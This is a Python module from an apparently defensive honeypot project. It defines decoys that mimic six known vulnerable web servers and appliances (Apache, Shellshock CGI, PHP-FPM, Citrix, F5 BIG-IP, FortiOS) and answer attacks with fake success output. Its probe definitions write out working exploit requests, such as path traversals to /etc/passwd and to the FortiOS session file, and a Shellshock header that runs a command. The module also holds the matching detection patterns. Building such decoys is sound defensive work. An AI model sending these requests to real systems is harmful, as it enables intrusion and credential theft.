"""Web server and appliance decoys: Apache path traversal (CVE-2021-41773), Shellshock
through CGI (CVE-2014-6271), PHP-FPM under nginx (CVE-2019-11043), Citrix ADC
(CVE-2019-19781), F5 BIG-IP TMUI (CVE-2020-5902) and FortiOS SSL VPN (CVE-2018-13379).

Each answers an exploit with the canned output a successful one would show (a fake
``/etc/passwd``, a fake ``id``): enough for an attacker's tool to report success and
move to its next step, which the decoy records too."""

from __future__ import annotations

from threatmesh.honeypots.decoys.base import Decoy
from threatmesh.honeypots.decoys.http import (
    HttpEmulation,
    HttpSession,
    Request,
    Response,
    http_probe,
)

__all__ = ["DECOYS"]

CRITICAL = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"
#: What a traversal to /etc/passwd finds (no real account of any host).
PASSWD = (b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
          b"www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
          b"backup:x:34:34:backup:/var/backups:/usr/sbin/nologin\n")  # fmt: skip
NOT_FOUND = Response(404, b"<html><head><title>404 Not Found</title></head>"
                          b"<body><h1>Not Found</h1></body></html>")  # fmt: skip


def _page(title: str, body: str = "") -> Response:
    return Response(200, f"<html><head><title>{title}</title></head><body>{body}</body></html>"
                    .encode())  # fmt: skip


def _text(body: bytes) -> Response:
    return Response(200, body, content_type="text/plain")


def _decoy(cve: str, title: str, cpes: tuple[str, ...], port: int, emulation: HttpEmulation,
           probe: bytes, cvss: str = CRITICAL) -> Decoy:  # fmt: skip
    return Decoy(cve=cve, title=title, cpes=cpes, cvss=cvss, port=port, protocol="http",
                 session=lambda: HttpSession(emulation), probe=(probe,))  # fmt: skip


# CVE-2021-41773: Apache httpd 2.4.49 normalises ".%2e" too late: files outside the
# document root, and CGI scripts such as /bin/sh when mod_cgi is on.
def _apache_detect(r: Request) -> bool:
    return any(p in r.path.lower() for p in (".%2e/", "%2e%2e", "%%32%65"))


def _apache_answer(r: Request, exploit: bool) -> Response:
    if exploit and r.method == "POST" and "cgi-bin" in r.path:
        return _text(b"uid=1(daemon) gid=1(daemon) groups=1(daemon)\n")
    if exploit and "passwd" in r.text():
        return _text(PASSWD)
    if exploit:
        return Response(403, b"<html><body><h1>Forbidden</h1></body></html>")
    return _page("Apache", "<h1>It works!</h1>") if r.path == "/" else NOT_FOUND


APACHE = _decoy(
    "CVE-2021-41773", "Apache HTTP Server 2.4.49 path traversal and RCE",
    ("cpe:2.3:a:apache:http_server:2.4.49:*:*:*:*:*:*:*",), 80,
    HttpEmulation("Apache/2.4.49 (Unix)", _apache_detect, _apache_answer),
    http_probe("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", {}),
    "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
)  # fmt: skip


# CVE-2014-6271: bash runs what follows a function definition in an environment
# variable, and CGI puts request headers in the environment.
def _shellshock_detect(r: Request) -> bool:
    return any(v.lstrip().startswith("() {") for v in r.headers.values()) or "() {" in r.text()


def _shellshock_answer(r: Request, exploit: bool) -> Response:
    if exploit:
        return _text(b"\nuid=33(www-data) gid=33(www-data) groups=33(www-data)\n")
    if r.path.startswith("/cgi-bin/"):
        return _text(b"status: ok\nload: 0.12 0.08 0.05\n")
    return _page("Server status", "<a href='/cgi-bin/status'>status</a>")


SHELLSHOCK = _decoy(
    "CVE-2014-6271", "GNU Bash Shellshock through Apache mod_cgi",
    tuple(f"cpe:2.3:a:gnu:bash:{v}:*:*:*:*:*:*:*" for v in ("4.3", "4.2", "4.1", "4.0", "3.2")),
    80, HttpEmulation("Apache/2.2.22 (Ubuntu)", _shellshock_detect, _shellshock_answer),
    http_probe("GET", "/cgi-bin/status", {"User-Agent": "() { :; }; echo; /usr/bin/id"}),
)  # fmt: skip


# CVE-2019-11043: a newline in PATH_INFO under nginx's fastcgi_split_path_info
# underflows a PHP-FPM buffer; exploits then set PHP_VALUE through the request.
def _fpm_detect(r: Request) -> bool:
    return ".php" in r.path.lower() and ("%0a" in r.path.lower() or "PHP_VALUE" in r.text())


def _fpm_answer(r: Request, exploit: bool) -> Response:
    if exploit:
        return Response(200, b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n",
                        {"X-Powered-By": "PHP/7.3.10"})  # fmt: skip
    if r.path in {"/", "/index.php"}:
        return Response(200, b"<html><body>Welcome</body></html>", {"X-Powered-By": "PHP/7.3.10"})
    return NOT_FOUND


PHP_FPM = _decoy(
    "CVE-2019-11043", "PHP-FPM under nginx: env_path_info underflow (RCE)",
    tuple(f"cpe:2.3:a:php:php:{v}.*:*:*:*:*:*:*:*" for v in ("7.1", "7.2", "7.3")), 80,
    HttpEmulation("nginx/1.14.0", _fpm_detect, _fpm_answer),
    http_probe("GET", "/index.php/PHP_VALUE%0Asession.auto_start=1;;;?" + "Q" * 40,
               {"D-Pisos": "8" + "=" * 30 + "D", "Ebut": "mamku tvoyu"}),
)  # fmt: skip


# CVE-2019-19781: Citrix ADC / Gateway serve /vpns/ (Perl scripts) past a "../".
def _citrix_detect(r: Request) -> bool:
    decoded = r.text()
    return "/vpns/" in decoded and ("../" in decoded or "..%2f" in r.target.lower())


def _citrix_answer(r: Request, exploit: bool) -> Response:
    if exploit and "smb.conf" in r.target:
        return _text(b"[global]\n\tencrypt passwords = yes\n\tname resolve order = lmhosts"
                     b" wins host bcast\n")  # fmt: skip
    if exploit:
        return _page("Citrix Gateway", "<div id='bookmark'>Bookmark saved</div>")
    if r.path == "/":
        return Response(302, b"", {"Location": "/vpn/index.html"})
    return _page("Citrix Gateway", "<form action='/cgi/login'>NetScaler Gateway</form>")


CITRIX = _decoy(
    "CVE-2019-19781", "Citrix ADC and Gateway directory traversal (RCE)",
    ("cpe:2.3:o:citrix:application_delivery_controller_firmware:*:*:*:*:*:*:*:*",
     "cpe:2.3:o:citrix:gateway_firmware:*:*:*:*:*:*:*:*"), 443,
    HttpEmulation("Apache", _citrix_detect, _citrix_answer),
    http_probe("GET", "/vpn/../vpns/cfg/smb.conf", {}),
)  # fmt: skip


# CVE-2020-5902: BIG-IP's Traffic Management UI, reached past ";" in "..;/".
def _f5_detect(r: Request) -> bool:
    return "/tmui/" in r.path.lower() and "..;" in r.text()


def _f5_answer(r: Request, exploit: bool) -> Response:
    if exploit and "fileRead" in r.path:
        body = b'{"output":"' + PASSWD.replace(b"\n", b"\\n") + b'"}'
        return Response(200, body, content_type="application/json")
    if exploit:
        return Response(200, b'{"error":"","output":""}', content_type="application/json")
    return _page("BIG-IP&reg;- Redirect", "<form name='loginform'>Welcome to the BIG-IP</form>")


F5 = _decoy(
    "CVE-2020-5902", "F5 BIG-IP TMUI remote code execution",
    tuple(f"cpe:2.3:a:f5:big-ip_local_traffic_manager:{v}.*:*:*:*:*:*:*:*"
          for v in ("15.1", "15.0", "14.1", "13.1", "12.1", "11.6")), 443,
    HttpEmulation("Apache", _f5_detect, _f5_answer),
    http_probe("GET", "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp"
               "?fileName=/etc/passwd", {}),
)  # fmt: skip


# CVE-2018-13379: FortiOS SSL VPN's language file path reads any file, among them the
# sessions file holding plaintext credentials.
def _forti_detect(r: Request) -> bool:
    return "/remote/fgt_lang" in r.path and ("../" in r.text() or "/dev/cmdb" in r.text())


def _forti_answer(r: Request, exploit: bool) -> Response:
    if exploit:
        return Response(200, b"var fgt_lang =\n\x00\x00admin\x00\x00\x0010.0.0.1\x00",
                        content_type="application/javascript")  # fmt: skip
    return _page("Please Login", "<form action='/remote/logincheck'>FortiGate SSL VPN</form>")


FORTINET = _decoy(
    "CVE-2018-13379", "Fortinet FortiOS SSL VPN path traversal",
    tuple(f"cpe:2.3:o:fortinet:fortios:{v}.*:*:*:*:*:*:*:*" for v in ("6.0", "5.6", "5.4")),
    443, HttpEmulation("xxxxxxxx-xxxxx", _forti_detect, _forti_answer),
    http_probe("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
               {}),
)  # fmt: skip

DECOYS = (APACHE, SHELLSHOCK, PHP_FPM, CITRIX, F5, FORTINET)
